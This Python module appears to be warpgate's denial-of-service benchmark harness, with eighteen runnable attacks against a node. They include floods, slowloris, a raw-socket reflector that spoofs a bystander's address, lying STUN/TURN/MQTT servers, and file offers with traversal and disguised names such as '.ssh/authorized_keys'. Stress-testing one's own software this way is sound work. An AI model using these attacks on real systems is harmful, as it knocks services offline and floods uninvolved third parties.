"""What `bench/attacks` runs against the real command: `python -m bench.attackers NAME ADDRESS [OTHER ...]`.

Each goes on until it is stopped. A stranger has a fresh key, the address, and a network that lets out any source.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import itertools
import os
import secrets
import socket
import struct
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from types import SimpleNamespace

from warpgate import Config, Identity, Node, WarpgateError
from warpgate.core.connection.quic_bounds import Holdings
from warpgate.core.connection.quic_flow import QuicFlow
from warpgate.core.connection.quic_stream import QuicStream
from warpgate.core.pipes.quic import QuicPipe
from warpgate.core.search.equipment import TOPIC
from warpgate.model.address import NodeAddress
from warpgate.model.endpoint import Endpoint, SockAddr
from warpgate.model.wanted import FILES_SERVICE
from warpgate.net.network import TcpStream
from warpgate.net.system import SystemNetwork
from warpgate.proto.check_wire import CheckCodec
from warpgate.proto.envelope import MAX_ENVELOPE, seal
from warpgate.proto.hello import HEADER_SIZE, Handshake, Role, rest_of_message
from warpgate.proto.quic_wire import CONNECTION_ID_SIZE
from warpgate.proto.signals import Signal, SignalKind
from warpgate.proto.stun import (
    Attribute,
    ErrorCode,
    Integrity,
    Method,
    StunClass,
    StunMessage,
    decode,
    encode,
)
from warpgate.proto.transfer_names import ENTRY_COST
from warpgate.proto.transfer_wire import (
    BATCH,
    MAX_ENTRIES,
    MAX_LIST,
    MAX_NAME,
    Busy,
    Entries,
    Entry,
    Offer,
)
from warpgate.proto.transfer_wire import encode as encode_frame
from warpgate.services.mqtt import MqttConnector

QUIET = Config(brokers=(), stun=(), port=0, port_map=False)
STEP = 0.01
HOLES = 1500  # packets, more than end a connection
DECEPTIVE = (
    ".bash_profile",
    "-rf",
    "..",
    "a/../b",
    "photo\u202egpj.exe",
    "x\x1b[2J",
    ".ssh/authorized_keys",
    "a\0b",
)


class Victim:
    """What is said to it is said by hand."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.address = NodeAddress.from_text(text)
        self.key = self.address.public_key
        at = self.address.attachments[0]
        self.place = Endpoint(at.host, at.udp.local)

    def codec(self, key: Identity, session: bytes) -> CheckCodec:
        agreed = key.session_key(self.key, session, initiator=True)
        return CheckCodec(True, session, agreed, secrets.token_bytes(32), key.public_key)

    def first_check(self, key: Identity, session: bytes) -> bytes:
        return self.codec(key, session).request(secrets.token_bytes(12), "direct", self.place, introduce=True)

    def handshake(self, key: Identity, session: bytes) -> Handshake:
        return Handshake.dial(
            role=Role.INITIATOR,
            session=session,
            session_key=key.session_key(self.key, session, initiator=True),
            public_key=key.public_key,
            peer_key=self.key,
            nonce=secrets.token_bytes(16),
            plugin="direct",
        )

    def udp(self) -> socket.socket:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sock.connect(self.place.sockaddr)
        return sock


async def paced(rate: float) -> AsyncIterator[int]:
    """Numbers, so many a second; what the machine could not do in time is not made up for."""
    began, given = time.monotonic(), 0
    while True:
        due = int((time.monotonic() - began) * rate) + 1
        for _ in range(min(due - given, int(rate * 0.1) + 1)):
            yield given
            given += 1
        given = max(given, due - int(rate * 0.1))
        await asyncio.sleep(STEP)


def say(sock: socket.socket, data: bytes) -> None:
    with contextlib.suppress(OSError):
        sock.send(data)


# -- brokers and signals ----------------------------------------------------------------------------------------------


async def topic_flood(victim: Victim, broker: str) -> None:
    link = await MqttConnector(SystemNetwork()).connect(broker, TOPIC + "nobody", lambda _: None)
    topic = TOPIC + victim.address.node_id
    async for _ in paced(5000):
        link.publish(topic, os.urandom(MAX_ENVELOPE))


async def offer_flood(victim: Victim, broker: str, age: str) -> None:
    """Well-formed, by a hundred keys, dated so many seconds ago: the answers go over the victim's brokers."""
    link = await MqttConnector(SystemNetwork()).connect(broker, TOPIC + "nobody", lambda _: None)
    topic, keys = TOPIC + victim.address.node_id, [Identity.generate() for _ in range(100)]
    async for number in paced(300):
        key = keys[number % len(keys)]
        offer = Signal(
            kind=SignalKind.OFFER,
            session=secrets.token_bytes(16),
            sequence=1,
            time=time.time() - float(age),
            address=NodeAddress(key.public_key, victim.address.brokers, victim.address.attachments).encode(),
            mode="datagram",
        )
        link.publish(topic, seal(key, victim.key, offer, secrets.token_bytes(16)))


async def hostile_broker(_victim: None, place: str, quality: str, size: str) -> None:
    """Whoever subscribes is sent PUBLISH with this QoS, without end, however slowly it reads."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            _, connect = await packet(reader)
            five = connect[6] == 5
            writer.write(b"\x20\x03\0\0\0" if five else b"\x20\x02\0\0")
            _, subscribe = await packet(reader)
            skip = 2 + five
            length = int.from_bytes(subscribe[skip : skip + 2], "big")
            topic = subscribe[skip + 2 : skip + 2 + length]
            writer.write(b"\x90" + bytes((3 + five,)) + subscribe[:2] + b"\0" * five + b"\0")
            for number in itertools.count():
                body = len(topic).to_bytes(2, "big") + topic
                if int(quality):
                    body += (number % 65535 + 1).to_bytes(2, "big")
                body += b"\0" * five + bytes(int(size))
                writer.write(bytes((0x30 | int(quality) << 1,)) + variable(len(body)) + body)
                if number % 64 == 0:
                    await writer.drain()

    server = await asyncio.start_server(serve, *Endpoint.parse(place).sockaddr[:2])
    await server.serve_forever()


async def packet(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    kind, length, shift = (await reader.readexactly(1))[0], 0, 0
    while True:
        byte = (await reader.readexactly(1))[0]
        length |= (byte & 0x7F) << shift
        shift += 7
        if not byte & 0x80:
            return kind, await reader.readexactly(length)


def variable(length: int) -> bytes:
    data = b""
    while True:
        length, low = divmod(length, 128)
        data += bytes((low | 0x80 * bool(length),))
        if not length:
            return data


# -- the listening port -----------------------------------------------------------------------------------------------


async def forged_introductions(victim: Victim) -> None:
    """Keys that are keys, and nobody's here: what they cost is one agreement each."""
    sock, others = victim.udp(), [Identity.generate() for _ in range(200)]
    liar = Identity.generate()
    forged = []
    for other in others:
        data = bytearray(victim.first_check(liar, secrets.token_bytes(16)))
        at = data.index(liar.public_key)
        data[at : at + 33] = other.public_key
        forged.append(bytes(data))
    async for number in paced(1000):
        say(sock, forged[number % len(forged)])


async def proved_introductions(victim: Victim) -> None:
    """Sessions begun, and nothing done in them."""
    sock, keys = victim.udp(), [Identity.generate() for _ in range(50)]
    async for number in paced(1000):
        say(sock, victim.first_check(keys[number % 50], secrets.token_bytes(16)))


async def hello_flood(victim: Victim) -> None:
    liar, other, network = Identity.generate(), Identity.generate(), SystemNetwork()

    async def one() -> None:
        with contextlib.suppress(WarpgateError):
            stream = await network.dial_tcp(victim.place)
            hello = victim.handshake(liar, secrets.token_bytes(16)).data_to_send()
            await stream.send(hello.replace(liar.public_key, other.public_key))
            await stream.recv(100)
            stream.abort()

    await crowd(one, 50)


async def silent_connections(victim: Victim) -> None:
    """Slowloris: a byte of a HELLO a second."""
    network, key = SystemNetwork(), Identity.generate()

    async def one() -> None:
        with contextlib.suppress(WarpgateError):
            stream = await network.dial_tcp(victim.place)
            for byte in victim.handshake(key, secrets.token_bytes(16)).data_to_send():
                await stream.send(bytes((byte,)))
                await asyncio.sleep(1.0)

    await crowd(one, 400)


async def unchosen_links(victim: Victim) -> None:
    """Proved and never nominated, a hundred in each of ten sessions."""
    network, key = SystemNetwork(), Identity.generate()
    sessions = [secrets.token_bytes(16) for _ in range(10)]
    numbers = itertools.count()

    async def one() -> None:
        with contextlib.suppress(WarpgateError, asyncio.IncompleteReadError):
            stream = await network.dial_tcp(victim.place)
            handshake = victim.handshake(key, sessions[next(numbers) % 10])
            await stream.send(handshake.data_to_send())
            header = await exactly(stream, HEADER_SIZE)
            handshake.receive(header + await exactly(stream, rest_of_message(header)))
            await stream.recv(1)

    await crowd(one, 400)


async def exactly(stream: TcpStream, count: int) -> bytes:
    data = b""
    while len(data) < count:
        part = await stream.recv(count - len(data))
        if not part:
            raise asyncio.IncompleteReadError(data, count)
        data += part
    return data


async def crowd(one: Callable[[], Awaitable[None]], count: int) -> None:
    async def again() -> None:
        while True:
            await one()
            await asyncio.sleep(STEP)

    await asyncio.gather(*(again() for _ in range(count)))


async def reflector(victim: Victim, bystander: str) -> None:
    """Nominations, and data to be echoed, with the source address of somebody who never asked."""
    target, raw = (
        Endpoint.parse(bystander),
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    )
    sock, key = victim.udp(), Identity.generate()
    async for number in paced(20):
        session = secrets.token_bytes(16)
        codec = victim.codec(key, session)
        say(sock, codec.request(secrets.token_bytes(12), "direct", victim.place, introduce=True))
        await asyncio.sleep(0.05)
        nonce = None
        with contextlib.suppress(OSError, WarpgateError):
            nonce = codec.open(sock.recv(2048), victim.place).nonce
        for echo in (nonce, None, secrets.token_bytes(16)):
            flags = (Attribute.USE_CANDIDATE,)
            forged = codec.request(secrets.token_bytes(12), "direct", victim.place, *flags, echo=echo)
            raw.sendto(in_the_name_of(target, victim.place, forged), victim.place.sockaddr)
        for _ in range(20):
            raw.sendto(in_the_name_of(target, victim.place, b"echo this" * (number % 100)), victim.place.sockaddr)


def in_the_name_of(source: Endpoint, target: Endpoint, data: bytes) -> bytes:
    """IPv4 and UDP; the kernel fills in the IP header's checksum and length, and UDP's may be 0 (RFC 768)."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(data), 0, 0, 64, 17, 0) + source.ip.packed + target.ip.packed
    return head + struct.pack("!HHHH", source.port, target.port, 8 + len(data), 0) + data


async def quic_first_packets(victim: Victim) -> None:
    """Handshakes begun, by the hundred, and never gone on with."""
    sock, key = victim.udp(), Identity.generate()
    now = time.monotonic()
    flights = [
        QuicStream.client(key, victim.key, secrets.token_bytes(16), now, Holdings()).datagrams(now) for _ in range(300)
    ]
    async for number in paced(300):
        for data in flights[number % len(flights)]:
            say(sock, data)


# -- servers that lie -------------------------------------------------------------------------------------------------


async def hostile_stun(_victim: None, place: str) -> None:
    """A thousand answers to each request, each with another mapped address."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.bind(Endpoint.parse(place).sockaddr)
    loop = asyncio.get_running_loop()
    while True:
        data, source = await loop.sock_recvfrom(sock, 2048)
        with contextlib.suppress(WarpgateError, OSError):
            asked = decode(data)
            for number in range(1000):
                mapped = Endpoint.of(f"203.0.{number % 250}.{number % 200 + 1}", 1000 + number)
                attributes = ((Attribute.XOR_MAPPED_ADDRESS, mapped),) * 20
                sock.sendto(
                    encode(StunMessage(asked.method, StunClass.SUCCESS, asked.transaction_id, attributes)),
                    source,
                )


def turn_answers(data: bytes, client: Endpoint) -> list[bytes]:
    """It lets everybody in, grants whatever is asked for, a thousand times over, and brings data of invented peers."""
    asked = decode(data)
    if Attribute.USERNAME not in asked:
        realm = (
            (Attribute.ERROR_CODE, ErrorCode(401, "Unauthorized")),
            (Attribute.REALM, "r"),
            (Attribute.NONCE, b"n"),
        )
        return [encode(StunMessage(asked.method, StunClass.ERROR, asked.transaction_id, realm))]
    relayed = Endpoint.of("203.0.113.9", 40_000)
    granted = (
        (Attribute.XOR_RELAYED_ADDRESS, relayed),
        (Attribute.XOR_MAPPED_ADDRESS, client),
        (Attribute.LIFETIME, 600),
    )
    answer = StunMessage(asked.method, StunClass.SUCCESS, asked.transaction_id, granted)
    signed = encode(
        answer, key=hashlib.md5(b"user:r:password", usedforsecurity=False).digest(), integrity=Integrity.SHA1
    )
    return [signed] * 1000


def turn_data(number: int) -> bytes:
    peer = Endpoint.of(f"203.0.{number % 250}.{number % 200 + 1}", 1000 + number % 60_000)
    attributes = ((Attribute.XOR_PEER_ADDRESS, peer), (Attribute.DATA, bytes(1000)))
    return encode(StunMessage(Method.DATA, StunClass.INDICATION, bytes(12), attributes))


async def hostile_turn(_victim: None, place: str) -> None:
    """By UDP and TCP; whoever has asked gets data as fast as it goes."""
    address = Endpoint.parse(place).sockaddr[:2]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.bind(address)
    loop = asyncio.get_running_loop()
    clients: set[SockAddr] = set()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        client = Endpoint.from_sockaddr(writer.get_extra_info("peername"))
        with contextlib.suppress(OSError, WarpgateError, asyncio.IncompleteReadError):
            for _ in range(2):  # the challenge, the allocation
                head = await reader.readexactly(20)
                data = head + await reader.readexactly(int.from_bytes(head[2:4], "big"))
                writer.writelines(turn_answers(data, client))
            for number in itertools.count():
                writer.write(turn_data(number))
                await writer.drain()

    async def flood() -> None:
        async for number in paced(2000):
            for client in clients:
                with contextlib.suppress(OSError):
                    sock.sendto(turn_data(number), client)

    flooding = asyncio.ensure_future(flood())
    async with await asyncio.start_server(serve, *address):
        while not flooding.done():
            data, source = await loop.sock_recvfrom(sock, 2048)
            with contextlib.suppress(WarpgateError, OSError):
                for answer in turn_answers(data, Endpoint.from_sockaddr(source)):
                    sock.sendto(answer, source)
            clients.add(source)


async def hostile_names(_victim: None, place: str) -> None:
    """An endless answer to each request, in pieces of one byte."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            while True:
                writer.write(b"1\r\nx\r\n" * 1000)
                await writer.drain()

    server = await asyncio.start_server(serve, *Endpoint.parse(place).sockaddr[:2])
    await server.serve_forever()


# -- what streams hold ------------------------------------------------------------------------------------------------


class Recorder:
    """Of the connection id in 1-RTT packets that a socket sends."""

    def __init__(self, send: Callable[..., bool]) -> None:
        self.send = send
        self.ids: list[bytes] = []

    def __call__(self, data: bytes, target: SockAddr, ttl: int | None = None) -> bool:
        if data[0] & 0xC0 == 0x40:
            self.ids.append(data[1 : 1 + CONNECTION_ID_SIZE])
        return self.send(data, target, ttl)


async def stream_holes(victim: Victim) -> None:
    """One-byte frames with every second byte missing, on one stream after the other."""
    sys.path.insert(0, "tests/unit/core")
    from quic_forger import Forger, holes  # noqa: PLC0415 - of the tests, whose path is known now

    async with Node(QUIET, identity=Identity.generate()) as node:
        while True:
            with contextlib.suppress(WarpgateError, TimeoutError):
                pipe = await node.connect(victim.text, transport="udp", durable=False, timeout=5.0)
                assert isinstance(pipe, QuicPipe)
                flow = pipe._driver
                assert isinstance(flow, QuicFlow)
                stream, recorder = flow.stream, Recorder(flow._port.socket.send)
                flow._port.socket.send = recorder  # type: ignore[method-assign]
                await pipe.send(b"x")
                while not recorder.ids:  # noqa: ASYNC110 - it is sent in the next turn
                    await asyncio.sleep(STEP)
                cipher, theirs = stream._quic.get_cipher, recorder.ids[-1]
                target = SimpleNamespace(_quic=SimpleNamespace(get_cipher=cipher, host_cid=theirs))
                # Our library must not hear of packets acknowledged that it has not sent.
                there = flow.remote.sockaddr
                flow._port.streams.pop(there, None)
                forger = Forger(target, stream._secrets.client_secret or b"")
                async for number in paced(1000.0):
                    recorder.send(forger.seal(holes(0, 100_000 + 120 * number, 60)), there)
                    if number == HOLES:
                        break
                pipe.abort()


async def hoarder(victim: Victim) -> None:
    """400 durable pipes of eight keys, filled as far as they take it, whose echo nobody reads."""

    async def one(_: int) -> None:
        async with Node(QUIET, identity=Identity.generate()) as node, asyncio.TaskGroup() as group:

            async def fill() -> None:
                with contextlib.suppress(WarpgateError, TimeoutError):
                    pipe = await node.connect(victim.text, durable=True, timeout=20.0)
                    while True:
                        await pipe.send(bytes(65_536))

            for _ in range(50):
                group.create_task(fill())

    await asyncio.gather(*map(one, range(8)))


# -- warpgate receive -------------------------------------------------------------------------------------------------


async def held_receiver(victim: Victim) -> None:
    """Transfers that only say that they are alive, and pipes that say nothing."""
    async with contextlib.AsyncExitStack() as stack:
        for number in range(8):
            node = await stack.enter_async_context(Node(QUIET, identity=Identity.generate()))
            for _ in range(10):
                with contextlib.suppress(WarpgateError):
                    pipe = await node.connect(victim.text, service=FILES_SERVICE, timeout=5.0)
                    if number % 2:
                        await pipe.send(encode_frame(Busy()))
        await asyncio.Event().wait()


async def deceptive_names(victim: Victim) -> None:
    async with Node(QUIET, identity=Identity.generate()) as node:
        for name in itertools.cycle(DECEPTIVE):
            with contextlib.suppress(WarpgateError, TimeoutError):
                pipe = await node.connect(victim.text, service=FILES_SERVICE, timeout=5.0)
                offer = Offer(1, secrets.token_bytes(16), name, False, 1, 3)
                await pipe.send(encode_frame(offer) + (5).to_bytes(4, "big") + b"\xc1" * 5)
                await pipe.recv(timeout=1.0)
                pipe.abort()


async def long_lists(victim: Victim, transport: str) -> None:
    """Eight keys with the longest list that is taken, but for its last entry: it stays as long as they do."""
    room = MAX_LIST // MAX_ENTRIES - ENTRY_COST
    names = (f"{number:06}".ljust(min(room, MAX_NAME), "x") for number in range(MAX_ENTRIES - 1))
    files = [Entry((name,), False, 0, 0, False) for name in names]
    said = b"".join(encode_frame(Entries(tuple(files[start : start + BATCH]))) for start in range(0, len(files), BATCH))

    async def one(number: int) -> None:
        async with Node(QUIET, identity=Identity.generate()) as node:
            while True:
                with contextlib.suppress(WarpgateError, TimeoutError):
                    pipe = await node.connect(
                        victim.text, service=FILES_SERVICE, timeout=5.0, transport=transport, secure=True
                    )
                    offer = Offer(1, secrets.token_bytes(16), f"list {number}", True, MAX_ENTRIES, 0)
                    await pipe.send(encode_frame(offer) + said)
                    while await pipe.recv(timeout=60.0):
                        pass
                await asyncio.sleep(1.0)

    await asyncio.gather(*map(one, range(8)))


ATTACKS: dict[str, Callable[..., Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        topic_flood,
        offer_flood,
        hostile_broker,
        forged_introductions,
        proved_introductions,
        hello_flood,
        silent_connections,
        unchosen_links,
        reflector,
        quic_first_packets,
        hostile_stun,
        hostile_turn,
        hostile_names,
        stream_holes,
        hoarder,
        held_receiver,
        deceptive_names,
        long_lists,
    )
}


async def main() -> None:
    name, address, *others = sys.argv[1:]
    with tempfile.TemporaryDirectory(prefix="warpgate-attack-") as folder:
        os.environ["WARPGATE_DATA"] = folder
        await ATTACKS[name](Victim(address) if address else None, *others)


if __name__ == "__main__":
    asyncio.run(main())
